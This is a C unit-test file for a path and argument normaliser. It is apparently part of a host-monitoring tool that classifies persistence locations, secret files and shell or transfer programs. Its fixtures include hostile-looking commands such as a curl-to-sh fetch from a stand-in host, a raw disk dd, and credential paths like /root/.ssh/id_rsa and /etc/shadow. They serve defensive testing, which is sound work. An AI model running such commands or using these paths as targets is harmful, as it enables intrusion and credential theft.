// SPDX-License-Identifier: GPL-2.0-only
/* What varies is taken out of names, and whatever they hold comes out short and plain. */
#include "actor.h"
#include "normal.h"
#include "trait.h"
#include "unit.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SLICE(text) ((struct slice){ text, sizeof(text) - 1 })

static const struct {
	const char *path;
	const char *whole;
	const char *place;
} paths[] = {
	{ "/usr/bin/ls", "/usr/bin/ls", "/usr/bin/*" },
	{ "/usr/lib/x86_64/libssl.so.3", "/usr/lib/x<n>_<n>/libssl.so.<n>", "/usr/lib/x<n>_<n>/*" },
	{ "/home/ann/notes.txt", "~/notes.txt", "~/*.txt" },
	{ "/root/.ssh/id_rsa", "~root/.ssh/id_rsa", "~root/.ssh/*" },
	{ "/proc/self/environ", "/proc/<n>/environ", "/proc/<n>/*" },
	{ "/proc/4711/environ", "/proc/<n>/environ", "/proc/<n>/*" },
	{ "/dev/pts/7", "/dev/pts/<n>", "/dev/pts/*" },
	{ "/run/user/1000/bus", "/run/user/*", "/run/user/*" },
	{ "/tmp/tmp.Xq9z1/a.sh", "/tmp/*.sh", "/tmp/*.sh" },
	{ "/dev/shm/.cache", "/dev/shm/*", "/dev/shm/*" },
	{ "/srv/0f3a9c77/part-17.dat", "/srv/<hex>/part-<n>.dat", "/srv/<hex>/*.dat" },
	{ "/srv/550e8400-e29b-41d4-a716-446655440000", "/srv/<uuid>", "/srv/*" },
	{ "/var/lib/docker/overlay2/77aa/merged/etc/passwd", "/etc/passwd", "/etc/*" },
	{ "/a/b/c/d/e/f/g/h", "/a/b/c/d/e/f/..", "/a/b/c/d/../*" },
	{ "/s/aB3dE5gH7", "/s/<r>", "/s/*" },
	{ "/", "/", "/*" },
	{ "", "/", "/*" },
};

START_TEST(paths_to_classes)
{
	const struct slice path = { paths[_i].path, strlen(paths[_i].path) };
	struct normal normal;

	normal_clear(&normal);
	normal_path(&normal, path);
	ck_assert_str_eq(normal.text, paths[_i].whole);
	normal_clear(&normal);
	normal_place(&normal, path);
	ck_assert_str_eq(normal.text, paths[_i].place);
}
END_TEST

static const struct {
	struct slice argv;
	const char *want;
} arguments[] = {
	{ SLICE("ls\0-l\0"), "-l" },
	{ SLICE("ls"), "" },
	{ SLICE("curl\0-s\0https://user:pw@bucket.example:8443/i/7.sh\0"),
	  "-s https://bucket.example" },
	{ SLICE("ping\00010.0.0.1\0-c3\0"), "<private 10.0.0.0/24> -c<n>" },
	{ SLICE("sh\0-c\0curl -s http://b.example/x | sh\0"), "-c curl -s http://b.example | sh" },
	{ SLICE("/bin/bash\0-ec\0id; uname -a>/tmp/o.txt\0"),
	  "-ec id ; uname -a > /tmp/*.txt" },
	{ SLICE("dd\0if=/dev/sda\0of=/tmp/x\0bs=4096\0"), "if=/dev/* of=/tmp/* bs=<n>" },
	{ SLICE("python3\0-c\0import os;os.system('id')\0"), "-c import?os;os.system(\"id\")" },
	{ SLICE("a\0b\0c\0d\0e\0f\0g\0h\0i\0j\0"), "b c d e f g h i .." },
};

START_TEST(arguments_to_templates)
{
	struct normal normal;

	normal_clear(&normal);
	normal_arguments(&normal, arguments[_i].argv);
	ck_assert_str_eq(normal.text, arguments[_i].want);
}
END_TEST

START_TEST(argument_by_number)
{
	const struct slice argv = SLICE("one\0\0three");

	ck_assert(slice_is(normal_argument(argv, 0), "one"));
	ck_assert_uint_eq(normal_argument(argv, 1).size, 0);
	ck_assert(slice_is(normal_argument(argv, 2), "three"));
	ck_assert_uint_eq(normal_argument(argv, 3).size, 0);
	ck_assert_uint_eq(normal_argument((struct slice){ NULL, 0 }, 0).size, 0);
}
END_TEST

static void check_plain(const struct normal *normal)
{
	size_t i;

	ck_assert_uint_lt(normal->size, NORMAL_MAX);
	ck_assert_uint_eq(strlen(normal->text), normal->size);
	for (i = 0; i < normal->size; i++)
		ck_assert(normal->text[i] >= ' ' && normal->text[i] < 127 &&
			  normal->text[i] != '\'');
}

static uint32_t seed;

static uint32_t draw(void)
{
	seed = seed * 1664525 + 1013904223;
	return seed >> 8;
}

/* Bytes of all kinds, and now and then what means something. */
static size_t make_up(char *to, size_t room)
{
	static const char *const words[] = { "/", "../", "/tmp/", "-c", "://", "@", "=", "|", "$(",
					     "0123456789abcdef", "/merged", "/home/", "." };
	size_t size = 0, want = draw() % room;

	while (size < want) {
		if (draw() % 3) {
			to[size++] = (char)draw();
		} else {
			const char *word = words[draw() % UNIT_COUNT(words)];

			while (*word && size < want)
				to[size++] = *word++;
		}
	}
	return size;
}

/* From a copy of just that size, which the sanitizers watch. */
START_TEST(anything_comes_out_plain)
{
	char bytes[6000];
	unsigned int i;

	seed = (uint32_t)_i;
	for (i = 0; i < 3000; i++) {
		const size_t size = make_up(bytes, i % 50 ? 300 : sizeof(bytes));
		const struct slice slice = { unit_exact(bytes, size), size };
		struct normal normal, again;

		normal_clear(&normal);
		normal_path(&normal, slice);
		check_plain(&normal);
		normal_clear(&again);
		normal_path(&again, slice);
		ck_assert_str_eq(normal.text, again.text);
		normal_clear(&normal);
		normal_place(&normal, slice);
		normal_clear(&normal);
		normal_arguments(&normal, slice);
		check_plain(&normal);
		trait_of_program(slice);
		trait_lasting(slice);
		trait_is_secret(slice);
		free((char *)slice.data);
	}
}
END_TEST

static int by_text(const void *a, const void *b)
{
	return strcmp(a, b);
}

/* Names that a program makes up are few. */
START_TEST(random_names_are_one)
{
	static char texts[4000][NORMAL_MAX];
	unsigned int i, kinds = 1;

	seed = 7;
	for (i = 0; i < 4000; i++) {
		struct normal normal;
		char path[64];

		snprintf(path, sizeof(path), "/srv/cache/%08x%08x/obj-%u.bin", draw(), draw(),
			 draw());
		normal_clear(&normal);
		normal_path(&normal, (struct slice){ path, strlen(path) });
		memcpy(texts[i], normal.text, sizeof(normal.text));
	}
	qsort(texts, 4000, NORMAL_MAX, by_text);
	for (i = 1; i < 4000; i++)
		kinds += strcmp(texts[i], texts[i - 1]) != 0;
	ck_assert_uint_le(kinds, 3);
}
END_TEST

static const struct {
	const char *path;
	enum lasting lasting;
	bool secret;
} traits[] = {
	{ "/etc/crontab", LASTING_CRON, false },
	{ "/var/spool/cron/crontabs/ann", LASTING_CRON, false },
	{ "/home/ann/.ssh/authorized_keys", LASTING_KEYS, false },
	{ "/home/ann/.bashrc", LASTING_SHELL, false },
	{ "/etc/ld.so.preload", LASTING_LOADER, false },
	{ "/run/systemd/generator/x.service", LASTING_NOT, false },
	{ "/srv/x", LASTING_NOT, false },
	{ "/home/ann/.aws/credentials", LASTING_NOT, true },
	{ "/etc/shadow", LASTING_ACCOUNT, true },
	{ "/home/ann/x.c", LASTING_NOT, false },
	{ "", LASTING_NOT, false },
	{ "/e", LASTING_NOT, false },
};

START_TEST(what_paths_are_for)
{
	const struct slice path = { traits[_i].path, strlen(traits[_i].path) };

	ck_assert_int_eq(trait_lasting(path), traits[_i].lasting);
	ck_assert_int_eq(trait_is_secret(path), traits[_i].secret);
}
END_TEST

START_TEST(what_programs_are)
{
	ck_assert_uint_eq(trait_of_program(SLICE("/usr/bin/dash")), TRAIT_SHELL);
	ck_assert_uint_eq(trait_of_program(SLICE("/usr/bin/python3.11")), TRAIT_INTERPRETER);
	ck_assert_uint_eq(trait_of_program(SLICE("/usr/bin/curl (deleted)")), TRAIT_TRANSFER);
	ck_assert_uint_eq(trait_of_program(SLICE("/usr/bin/shuf")), 0);
	ck_assert_uint_eq(trait_of_program((struct slice){ NULL, 0 }), 0);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("normal");

	unit_add_rows(suite, paths_to_classes, UNIT_COUNT(paths));
	unit_add_rows(suite, arguments_to_templates, UNIT_COUNT(arguments));
	unit_add(suite, argument_by_number);
	unit_add_rows(suite, anything_comes_out_plain, 8);
	unit_add(suite, random_names_are_one);
	unit_add_rows(suite, what_paths_are_for, UNIT_COUNT(traits));
	unit_add(suite, what_programs_are);
	return unit_run(suite);
}
